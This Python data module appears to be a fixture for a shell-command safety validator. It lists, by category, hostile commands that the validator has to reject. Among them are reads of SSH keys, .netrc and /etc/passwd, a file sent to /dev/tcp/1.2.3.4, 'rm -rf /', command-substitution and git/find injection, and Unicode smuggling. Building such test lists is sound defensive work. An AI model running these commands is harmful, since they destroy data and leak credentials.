"""Commands that must never run unasked, each under what it tries. One a line; what needs other characters is apart."""

from __future__ import annotations

LINES: dict[str, str] = {
    "substitution": r"""
ls $(rm a)
ls "$(rm a)"
echo `rm a`
echo "`rm a`"
echo ${x:-$(rm a)}
cat <(rm a)
diff <(ls) <(rm a)
ls >(tee a)
echo $((1+1))
echo $[1+1]
echo $((a[$(rm x)]))
ls "a$(rm b)c"
grep "$(cat ~/.ssh/id_rsa)" a
cat "${HOME}/.netrc"
echo "${x@P}"
echo ${x/#/$(rm a)}
echo ${!x}
ls ${IFS}a
cat$IFS/etc/passwd
ls -la $'a\x0arm b'
""",
    "variable": r"""
cat $HOME/.ssh/id_rsa
cat "$HOME/.netrc"
echo $AWS_SECRET_ACCESS_KEY
echo "$PATH"
$SHELL
ls $x
"$x" a
ls "$@"
echo $*
echo $?
echo $$
ls $1
$x$y a
a$b c
cat ${a}
""",
    "quoting that spells": r"""
$'\x72\x6d' a
$'rm' a
$"rm" a
ls $'-la'
ls $"a"
echo $'\e]52;c;YQ==\a'
cat $'a'
$'\162\155' -rf a
$'\u0072\u006d' a
ls "a"$'b'
""",
    "assignment": r"""
X=1 ls
PATH=. ls
PATH=/tmp:/usr/bin ls
LD_PRELOAD=./x.so ls
GIT_EXTERNAL_DIFF=./x git diff
GIT_PAGER=./x git log
GIT_SSH_COMMAND=./x git status
PAGER=./x git log
LESSOPEN='|./x %s' ls
BASH_ENV=./x ls
IFS=x ls
x=1
x=(a b)
a[0]=1 ls
X+=1 ls
A=1 B=2 ls
x=1; ls
ls; PATH=.; ls
export PATH=.
export X=1 && ls
declare -x A=1
typeset A=1
readonly A=1
local A=1
unset PATH
RIPGREP_CONFIG_PATH=./x rg a
GREP_OPTIONS=-f ls
GIT_DIR=/tmp/x git status
GIT_CONFIG_GLOBAL=./x git status
PROMPT_COMMAND=x ls
""",
    "operators": r"""
ls &
ls & rm a
ls |& cat
ls ;; rm
ls ;& rm
ls ;;& rm
ls &!
sleep 5 &
(ls)
(rm a)
{ ls; }
{ rm a; }
ls && (rm a)
! ls
!ls
ls || { rm a; }
[[ -f a ]]
[[ a =~ b ]]
((x=1))
(( 1 ))
ls &&
&& ls
| ls
ls |
ls ; ; ls
;
""",
    "control flow": r"""
if true; then rm a; fi
if ls; then ls; fi
for i in a b; do rm $i; done
for i in a; do ls; done
for ((;;)); do ls; done
while true; do ls; done
while read x; do rm a; done
until false; do ls; done
case a in a) rm a;; esac
select x in a b; do rm a; done
f() { rm a; }; f
f() { ls; }
function f { rm a; }
function ls { rm a; }; ls
ls() { rm a; }; ls
coproc rm a
coproc ls
time { rm a; }
time (rm a)
time ! ls
then ls
do ls
done
fi
""",
    "text for programs": r"""
cat <<EOF
cat <<'EOF'
cat <<< "$(rm a)"
cat <<< a
cat <<-EOF
bash <<< 'rm a'
""",
    "redirection": r"""
ls > a
ls >> a
ls >| a
ls &> a
ls &>> a
ls >& a
ls 2> a
ls 1> a
ls > ~/.bashrc
ls > "a b"
echo x > .git/config
echo x >> .git/hooks/pre-commit
cat a > /dev/tcp/1.2.3.4/80
cat < /dev/tcp/1.2.3.4/80
cat < /dev/udp/1.2.3.4/53
ls 3> a
ls 3>&1
ls <> a
ls <&3
ls >&-
ls > /dev/null/../../tmp/a
ls > /dev/nul
ls > $x
ls > *
ls > ~
ls {fd}> a
> a
> a ls
>> a
: > a
ls >a 2>&1
ls 2>&1 | cat > a
ls > /dev/null > a
ls 2> /dev/null >> b
ls >/dev/sda
cat a >/dev/stdout
ls >/dev/stderr
""",
    "other programs": r"""
rm a
rm -rf /
mv a b
cp a b
ln -s a b
touch a
mkdir a
rmdir a
chmod +x a
chown a b
dd if=a of=b
tee a
truncate -s 0 a
shred a
install a b
python -c 'print(1)'
python a.py
python3 -m http.server
node -e '1'
perl -e '1'
ruby -e '1'
php -r '1'
awk '{print}' a
awk 'BEGIN{system("rm a")}'
gawk 1 a
sed 's/a/b/' a
sed -i 's/a/b/' a
sed -n '1e rm a' a
sed -n '1w b' a
sed -n 's/a/b/e' a
sed -n 's/a/b/w c' a
sed --expression=1p a
sed -n -i 1p a
sed -n '1,5p' -i a
sed -f a b
sed -n '$!N;p' a
ed a
vi a
vim -c '!rm a'
less a
more a
man ls
man -P ./x ls
info ls
curl http://a
wget http://a
nc a 80
make
make -n
npm test
npm run build
cargo build
go run .
pip install a
apt install a
docker ps
kubectl get pods
ps aux
ps e
top
kill 1
pkill a
crontab -l
at now
systemctl status
mount
umount a
tar tf a
tar xf a
unzip a
unzip -l a
zip a b
gzip a
base64 a
xxd a
xxd a b
xxd -r a b
xxd -ps a b
hexdump a
strings a
column -t a
split a
csplit a 1
patch a
rsync a b
scp a b
ssh a
mail a
open a
xdg-open a
tput reset
stty sane
reset
clear
history
history -c
alias ls=rm
unalias ls
set -e
set -x
shopt -s extglob
enable -n ls
hash -p ./x ls
trap 'rm a' EXIT
read x
mapfile a
ulimit -n 1
umask 0
source a
. a
. ./a
let x=1
bind -x a
complete -C ./x a
fc -s
wait
exit 1
return
logout
getopts a b
printenv
set
env
""",
    "starting others": r"""
timeout -- {5,bash,-c,'id>evil'} ls
timeout {5,touch} evil
timeout -s {KILL,5,touch} 5 ls
timeout 5* ls
nice -n {5,touch} cat evil
nice -n [5r]* cat a
nice -n ~ cat a
stdbuf -o {L,touch} echo evil
stdbuf -o ./x ls
stdbuf -o./x ls
timeout -k./x 5 ls
timeout --signal=./x 5 ls
timeout ./x ls
timeout -k{5,6} 5 ls
timeout 5 l? a
timeout 5 {touch,evil}
sudo ls
sudo -u root ls
doas ls
su -c ls
env ls
env -i ls
env X=1 ls
env -S 'rm a'
xargs rm
xargs ls
ls | xargs rm
find . | xargs cat
bash -c ls
bash -c 'rm a'
sh -c ls
sh a.sh
bash a.sh
bash
sh
ls | sh
echo rm a | bash
cat a | sh
zsh -c ls
dash -c ls
eval ls
eval 'rm a'
exec ls
exec 3> a
command ls
command rm a
command -p ls
builtin cd a
nohup ls
setsid ls
script -c ls
watch ls
parallel ls
chroot / ls
busybox ls
busybox rm a
unshare ls
strace ls
flock a ls
ionice ls
taskset 1 ls
timeout 5 rm a
timeout -x ls
timeout 5 bash -c ls
time rm a
time -o a ls
/usr/bin/time -o a ls
nice rm a
nice -n 5 rm a
stdbuf -o0 rm a
stdbuf -x ls
nice --foo ls
timeout 5 sudo ls
timeout $x ls
timeout 5 X=1 ls
time X=1 ls
nice cd a && ls
npx tsc
uv run ls
docker run a ls
""",
    "where programs come from": r"""
./ls
bin/ls
../ls
/tmp/ls
/home/me/ls
~/ls
/usr/bin/../../tmp/ls
//tmp/ls
/bin/r?
/usr/bin/l*
l?
*
{ls,a}
[l]s
ls.sh
LS
1s
""",
    "find": r"""
find . -delete
find . -exec rm {} \;
find . -exec rm {} +
find . -execdir rm {} \;
find . -ok rm {} \;
find . -okdir rm {} \;
find . -fprint a
find . -fprint0 a
find . -fprintf a %p
find . -fls a
find -L . -name a
find . -follow
find . -name a -delete
find . -name '*.py' -o -delete
find . \( -name a -o -delete \)
find . -files0-from a
find -D exec .
find . -exec
find . -name
find . -unknown
find . -name -delete
find . -newerXY a
find . -O3 -delete
find . -name *.py
find $(pwd)
find . -printf %p -fprintf a b
find "-delete"
find . '-delete'
find . -"delete"
find . -dele\te
""",
    "sort, uniq and other text tools": r"""
tail +1f a.txt
tail +f a.txt
tail -q +1f a.txt
seq inf
seq 1 inf
seq 1 1e10
seq 1 99999999999
seq 5 -1 -99999999999
seq -- 1 nan
seq ''
sort -o a b
sort -oa b
sort -uo a b
sort -ro a
sort --output=a b
sort --output a b
sort --outp=a b
sort --out a b
sort --compress-program=./x a
sort --comp=./x a
sort --compress-prog ./x a
sort -T /tmp a
sort --temporary-directory=/tmp a
sort --files0-from=a
sort -S 1 --compress-program ./x a
sort a -o a
cat -- -a
grep a -- -f
diff --palette -- --from-file=/etc/hostname a
diff --palette -- a b
du --time-style -- --files0-from=/etc/hostname
tree --filelimit -- -o evil
tree --filelimit 5
tree --charset -- a
tree --timefmt -- a
tree --sort /etc
wc --total -- --files0-from=a
stat --cached -- a
date -d 'TZ="/etc/hostname" now'
date --date=TZ=a
date --date ' TZ="a"'
find . -newermt 'TZ="/etc/hostname" now'
find . -newerat 'TZ="a" now'
find . -newerct 'TZ="a" now'
find . -name b -o -newerBt ' TZ="a" now'
sort -k1 -o a
sort '-o' a b
sort -"o" a b
sort -\o a b
uniq a b
uniq -c a b
uniq -- a b
uniq - b
uniq --unknown a
wc --files0-from=a
du --files0-from=a
du -L
du --dereference
du -X a
ls -L
ls --dereference
ls -RL
ls --unknown
cat --unknown
head --unknown a
tail -f a
tail -F a
tail -5f a
tail --follow a
tail --follow=name a
tail -n 5 -f a
tail --retry a
cut --unknown a
tr --unknown a b
nl --unknown a
tree -o a
tree -oa
tree -L 2 -o a
tree -Lo 2 a
tree -R -L 1
tree -l
tree --fromfile a
tree --output=a
file -C
file -C -m a
file --compile
file -f a
file -z a
file -p a
file -m a b
md5sum -c a
sha256sum --check a
sha256sum -c a
diff -r a b
diff --recursive a b
diff -l a b
diff --paginate a b
diff --to-file=a b --unknown
diff a b c
cmp a b 1 2 --unknown
comm a b c
date -s 12:00
date --set=12:00
date 01010000
date -f a
date --file=a
date +%F 0101
date --debug -s 1
hostname a
hostname -F a
hostname -f
hostname -b a
df --sync
uname a
whoami a
realpath --unknown
readlink --unknown
stat --unknown a
basename --unknown
id --unknown
which --unknown
pwd a
""",
    "searching": r"""
fd --and -- -l
fd --and -l
fd --base-directory / a
fd --base-directory=src a
grep -rD read a .
grep -r --devices=read a .
grep -R a .
grep --dereference-recursive a .
grep -rR a .
grep --unknown a
grep -f
grep -e
grep --fi=a b
rg --pre ./x a
rg --pre=./x a
rg --pre-glob '*' --pre x a
rg -z a
rg --search-zip a
rg -L a
rg --follow a
rg -iL a
rg --hostname-bin ./x a
rg --hostname-bin=./x a
rg --unknown a
rg -nz a
fd -x rm
fd a -x rm {}
fd --exec rm
fd --exec=rm a
fd -X rm
fd --exec-batch rm
fd -l
fd --list-details
fd -L a
fd --follow a
fd -Hx rm
fd --unknown
fdfind -x rm
""",
    "jq": r"""
jq -n 'repeat(1)'
jq -n 'range(1e10)'
jq -n 'def f: f; f'
jq -n '1 | until(false; .)'
jq -n 'while (true; .)'
jq -n '[1] | recurse(.)'
jq -n '[0,1] | combinations(99)'
jq -n '$ ENV'
jq -n '$ ENV.HOME'
jq -n '$ __prog_args'
jq -f a b
jq --from-file a b
jq env
jq -n env
jq '$ENV' a
jq -n '$ENV.HOME'
jq -n 'env.HOME'
jq 'import "a" as a; .' b
jq 'include "a"; .' b
jq -L . a b
jq --args a b
jq --jsonargs a b
jq --unknown . a
jq -rf a b
jq 'input_filename' a
jq -n '"\(env)"'
""",
    "builtins that evaluate": r"""
printf -v x a
printf -v 'a[$(rm b)]' c
printf '%n' x
printf '%s%n' a 'x[$(rm a)]'
printf '%5n' a
printf '%*n' 1 a
printf '%ln' a
printf -- -v a
printf
test -v x
test -v 'a[$(rm b)]'
[ -v x ]
[ -v 'a[$(rm b)]' ]
[ a -a -v 'x[$(rm b)]' ]
test -R x
[ -f a
[ a = b
cd
cd -
cd ~
cd ..
cd ../..
cd a b
cd -P a
cd a; git status
cd a; cat ../b
cd a; ls *.py
cd a; cd b; cd c; cd d; ls
cd a || ls
cd a; ls || cat b
true || cd a && cat b
cd a | ls
ls | cd a
cd a && cat ../b
cd a && cd ..
cd a && git status
cd a && git log
cd /tmp && git diff
cd a && ls *.py
cd "" && ls
cd a ; rm b
timeout 5 cd a && cat b
type --unknown
command -v --unknown
""",
    "git options": r"""
git log --format=%+GG
git log --format=%-GG
git log '--format=% G?'
git log '--pretty=format:% GS'
git branch --sort=signature
git branch --sort=-signature:grade
git tag --sort signature:key
git tag --format='%(*signature)'
git ls-tree --format='%(*signature)' HEAD
git branch --format='%(if)%(signature:key)%(then)a%(end)'
git
git -c core.pager=./x log
git -c alias.x='!rm a' x
git -c core.fsmonitor=./x status
git --config-env=core.pager=X log
git -C a status
git -C /tmp status
git --git-dir=a status
git --work-tree=a status
git --exec-path=. status
git --exec-path=. log
git -p log
git --paginate log
git --bare status
git --namespace=a log
git --unknown status
git diff --output=a
git diff --output a
git diff --outpu=a
git log --output=a
git show --output=a
git log -p --output=a
git log --encoding --output=a
git log --format --output=a
git stash list --output=a
git diff --ext-diff
git log --ext-diff -p
git show --textconv
git diff --no-index a b
git diff --no-index /etc/passwd a
git diff /etc/passwd a
git diff /dev/null /etc/passwd
git diff ../a b
git diff -Oa
git log -O a
git log --show-signature
git log --format='%G?'
git log --pretty=format:'%GG'
git show --format=%GK
git grep -O a
git grep -Oless a
git grep -O./x a
git grep --open-files-in-pager a
git grep --open-files-in-pager=./x a
git grep --open-files=./x a
git grep --no-index a
git grep --textconv a
git grep -f a
git blame --contents a b
git blame /etc/passwd
git show HEAD:../a
git log --unknown
git stash list -- --output=a
git stash list -- --output=a '--format=format:touch b'
git blame -- a --output=b
git log -L -- --output=a
git log -L -- a
git show -L -- --output=a
git whatchanged -L -- --output=a
git reflog show -L -- --output=a
git log --word-diff-regex -- a
git log --color-moved-ws -- a
git diff --ws-error-highlight -- a
git log -- -a
git branch --list --points-at -- -D
git log --diff-merges=remerge
git log --diff-merges remerge
git log --diff-merges=r
git show --remerge-diff
git status --unknown
git describe --dirty
git describe --broken
git describe --dirty=x
git rev-parse --parseopt
git rev-parse --git-path a
git cat-file --filters HEAD:a
git cat-file --textconv HEAD:a
git cat-file --batch
git ls-files -X a
git shortlog --unknown
git help log
git log --help
git --help
""",
    "git that writes": r"""
git add a
git add .
git commit -m a
git push
git pull
git fetch
git fetch --upload-pack=./x a
git clone a
git clone --upload-pack=./x a
git ls-remote
git ls-remote --upload-pack=./x a
git checkout a
git switch a
git restore a
git reset
git reset --hard
git merge a
git rebase a
git cherry-pick a
git revert a
git rm a
git mv a b
git clean -fd
git stash
git stash push
git stash pop
git stash drop
git stash clear
git stash apply
git stash show -p
git branch a
git branch a b
git branch -d a
git branch -D a
git branch -m a
git branch -M a
git branch -c a
git branch -f a
git branch -u a
git branch --set-upstream-to=a
git branch --edit-description
git branch --unset-upstream
git branch -v a
git branch --track a b
git branch --color a
git branch -q a
git branch --lis a
git tag a
git tag -d a
git tag -a a -m b
git tag -s a
git tag -f a
git tag --delete a
git tag -v a
git remote add a b
git remote remove a
git remote rename a b
git remote set-url a b
git remote show a
git remote update
git remote prune a
git reflog expire --all
git reflog delete a
git reflog a
git config a b
git config --global a b
git config --get a
git config --list
git gc
git fsck
git prune
git repack
git worktree add a
git worktree remove a
git worktree prune
git submodule update
git submodule foreach rm a
git bisect start
git bisect run ./x
git notes add
git apply a
git am a
git format-patch HEAD
git archive HEAD
git archive --output=a HEAD
git archive --remote=a --exec=./x HEAD
git bundle create a HEAD
git update-index --refresh
git update-ref a b
git symbolic-ref HEAD a
git write-tree
git read-tree HEAD
git hash-object -w a
git init
git daemon
git difftool
git mergetool
git gui
git instaweb
git send-email a
git filter-branch
git rev-list --unknown
git maintenance run
git sparse-checkout set a
git credential fill
git x
git status; git push
git log && git push
git diff | sh
""",
    "expansion": r"""
ls ~
ls ~/.ssh
cat ~/.netrc
cat ~root/a
ls {a,b}
cat {a,/etc/passwd}
cat a{1..3}
ls a={b,c}
cat x=~/a
cat a:~/b
echo ~
ls ~+
ls ~-
""",
    "a list with one that writes": r"""
ls; rm a
ls && rm a
ls || rm a
ls | tee a
cat a | sort -o b
ls; ls; ls; touch a
git status && git add .
cat a | xargs rm
true && rm a
false || rm a
echo a; echo b > c
grep a b | python
cat a | sed -i s/a/b/ c
""",
    "version queries that are more": r"""
pytest --version
yarn --version
pnpm --version
cargo --version
rustc --version
rustup --version
go version
dotnet --version
terraform --version
poetry --version
gh --version
python --version a.py
python --version --version -c 'print(1)'
node --version -e 1
node -v -e 1
python -V -c '1'
cargo --version build
npm --version && npm install
./python --version
bash --version -c 'rm a'
bash -c 'rm a' --version
sudo --version
python --versio
go version a && rm a
java -version
java --version
javac --version
""",
}

CHARACTERS: dict[str, tuple[str, ...]] = {
    "characters that cannot be seen": (
        "ls\r\nrm a",
        "ls\rrm a",
        "ls \r a",
        "ls\x00rm a",
        "ls \x1b[2J",
        "ls \x07",
        "ls \x7f",
        "ls \x0b a",
        "ls \x0c a",
        "ls \x9b2J",
        "ls \x85 a",
        "ls \u202e a",
        "ls \u2066 a",
        "ls \u200b",
        "ls\u200b -la",
        "ls \ufeff",
        "ls \u00a0-la",
        "ls\u00a0-la",
        "ls \u3000 a",
        "ls \u2028rm a",
        "ls \u00ad",
        "ls \U000e0041",
        "ls \udc80",
        "ls \ud800",
        "ls \u2800",
        "ls \ue000",
        "ls # \u202e",
    ),
    "new lines": (
        "ls\nrm a",
        "ls # a\nrm b",
        "ls #\\\nrm a",
        "ls\\\nrm a; rm b",
        "l\\\ns; rm a",
        "l\\\ns",
        "ls a\\\nb",
        "echo a\n\n\nrm a",
        "ls 'a\nb' ; rm a",
        "ls &&\nrm a",
        "ls |\nsh",
        "ls\n&& rm a",
        "\nrm a",
        "# a\nrm a",
        "ls \\",
        "ls a\\",
        "ls\n|| rm a",
        "ls \\\n; rm a",
        "echo 'a' \\\n > b",
        "cd a\nrm b",
        "cd a\ngit status",
    ),
    "text for programs, with its text": (
        "cat <<EOF\na\nEOF",
        "cat <<'EOF'\n$(rm a)\nEOF",
        "cat <<EOF > a\nb\nEOF",
        "cat <<EOF | sh\nrm a\nEOF",
        "bash <<EOF\nrm a\nEOF",
        "cat <<-EOF\n\ta\n\tEOF",
        "cat << 'E' 'F'\nE\nrm a\nF",
    ),
    "what is not closed": ("ls 'a", 'ls "a', "ls `a", "ls $(a", "ls (", "ls ${a", "ls $((1", "cat <<E"),
    "too much": (
        "ls " + "a" * 10_000,
        "; ".join(["ls"] * 51),
        " | ".join(["cat"] * 60),
        "ls " + "a " * 4_000,
        "(" * 5_000,
        "$(" * 5_000,
        "ls " + "[" * 3_000,
        "timeout 5 " * 60 + "ls",
    ),
    "names that only look like a program's": ("l\u0455", "\uff4cs", "\u217cs", "c\u0430t a"),
    "nothing": ("", " ", "\n", "# a", "\t"),
    "characters that shells disagree about": ("ls \u00e0", "cat a\u0160b", "ls \u0405"),
}


def hostile_commands() -> list[tuple[str, str]]:
    """Each with its category."""
    lines = [(category, line) for category, text in LINES.items() for line in text.strip("\n").split("\n")]
    return [*lines, *((category, command) for category, commands in CHARACTERS.items() for command in commands)]
